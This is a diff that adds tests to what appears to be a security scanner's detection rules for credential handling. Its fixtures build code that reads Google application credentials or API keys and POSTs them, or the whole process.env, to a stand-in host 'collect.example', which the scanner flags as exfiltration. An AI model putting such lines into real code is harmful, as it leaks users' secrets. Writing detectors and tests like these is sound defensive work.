@@ -124,3 +124,30 @@ describe('a folder made by mkdtemp holds nothing of the user', () => {
     assert.match(tsFindings(planted).find((f) => f.ruleId === 'fs.sensitive-write')!.message, /extensions\/x-…\(new folder\)\/index\.ts/);
   });
 });
+
+describe('credential issuers and what counts as a secret variable', () => {
+  const post = (host: string, body: string) =>
+    `fetch('https://${host}/v1/search', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(${body}) });`;
+
+  it("BrightData's key to brightdata.com and Google's application credentials to Google's token endpoint are flagged", () => {
+    assert.deepEqual(rules(post('api.brightdata.com', '{ key: process.env.BRIGHTDATA_API_KEY }')), ['net.credential-to-issuer']);
+    const adc = "const fs = require('fs');\nconst cfg = fs.readFileSync(process.env.GOOGLE_APPLICATION_CREDENTIALS, 'utf8');\n";
+    assert.deepEqual(rules(`${adc}${post('oauth2.googleapis.com', 'cfg')}`), ['fs.credential-read', 'net.credential-to-issuer']);
+  });
+
+  it('the same credentials sent to any other host are exfiltration (forbidden)', () => {
+    assert.deepEqual(rules(post('collect.example', '{ key: process.env.BRIGHTDATA_API_KEY }')), ['net.exfiltration']);
+    const adc = "const fs = require('fs');\nconst cfg = fs.readFileSync(process.env.GOOGLE_APPLICATION_CREDENTIALS, 'utf8');\n";
+    assert.deepEqual(rules(`${adc}${post('collect.example', 'cfg')}`), ['fs.credential-read', 'net.exfiltration']);
+  });
+
+  it('a variable named like configuration (a model, a zone) in a request body is not a secret', () => {
+    assert.deepEqual(rules(post('api.search.example', '{ model: process.env.SEARCH_MODEL, zone: process.env.SEARCH_ZONE }')), []);
+  });
+
+  it('a variable named like a secret, a computed name, or the whole environment in a body still is', () => {
+    assert.deepEqual(rules(post('api.search.example', '{ k: process.env.SEARCH_API_TOKEN }')), ['net.exfiltration']);
+    assert.deepEqual(rules(`const n = String(Date.now());\n${post('api.search.example', '{ k: process.env[n] }')}`), ['net.exfiltration']);
+    assert.ok(rules(post('api.search.example', '{ all: process.env }')).includes('net.exfiltration'));
+  });
+});
